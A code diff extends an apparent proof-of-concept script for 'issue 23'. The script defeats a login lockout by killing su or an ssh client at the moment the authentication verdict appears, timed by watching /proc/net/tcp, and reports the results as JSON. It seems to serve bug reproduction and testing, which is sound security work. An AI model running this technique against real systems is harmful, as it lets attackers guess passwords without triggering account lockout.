@@ -1,12 +1,16 @@
 #!/usr/bin/python3
 """The lockout-bypass attacker of issue 23, run as an unprivileged user.
 
-It starts `su -l TARGET -c true' on a pseudo-terminal it owns, types CODE
-at the prompt, then watches root's sockets the way any local user can
-(/proc/net/tcp: every socket of the host, with its ports and state) and,
-at the moment MODE names, kills su through the terminal: TIOCSIG SIGINT
-on the master (^C), then closes the master (SIGHUP).  It never calls
-kill(2) on su (not allowed) and needs no privilege.
+It starts COMMAND (`su -l TARGET -c true', or `ssh TARGET@127.0.0.1')
+on a pseudo-terminal it owns, types CODE at PROMPT, then watches root's
+sockets the way any local user can (/proc/net/tcp: every socket of the
+host, with its ports and state) and, at the moment MODE names, ends the
+login as HOW says:
+  tty     through the terminal: TIOCSIG SIGINT on the master (^C), then
+          the master closed (SIGHUP); su's own kill(2) is not allowed
+  client  the command (its own ssh client) killed, the master closed:
+          sshd sees the client go and sends SIGTERM to its PAM process
+It needs no privilege.
 
 MODE:
   verdict  at the first sign of the verdict: a second connection to the
@@ -15,9 +19,9 @@ MODE:
   first    at the first connection to the table port (before any verdict)
   none     never: su as a user would run it
 
-Usage: verdict_attacker.py MODE TABLE_PORT STS_PORT TARGET CODE PROMPT
+Usage: verdict_attacker.py MODE HOW TABLE_PORT STS_PORT CODE PROMPT COMMAND...
 Prints one JSON line: {"killed": bool, "table_conns": N, "sts_conns": N,
-"status": su's wait status or null}.
+"status": the command's wait status}.
 """
 import fcntl
 import json
@@ -72,12 +76,13 @@ def read_until(fd, text, deadline):
 
 
 def main():
-    mode, table_port, sts_port, target, code, prompt = sys.argv[1:7]
+    mode, how, table_port, sts_port, code, prompt = sys.argv[1:7]
+    command = sys.argv[7:]
     table_port, sts_port = int(table_port), int(sts_port)
     before = {c for c in remote_ports()}
     pid, master = pty.fork()
     if pid == 0:
-        os.execvp("su", ["su", "-l", target, "-c", "true"])
+        os.execvp(command[0], command)
     deadline = time.monotonic() + DEADLINE
     read_until(master, prompt, deadline)
     os.write(master, code.encode() + b"\n")
@@ -99,7 +104,10 @@ def main():
         else:
             fire = False
         if fire:
-            fcntl.ioctl(master, TIOCSIG, signal.SIGINT)
+            if how == "tty":
+                fcntl.ioctl(master, TIOCSIG, signal.SIGINT)
+            else:
+                os.kill(pid, signal.SIGKILL)
             killed = True
             break
         try:
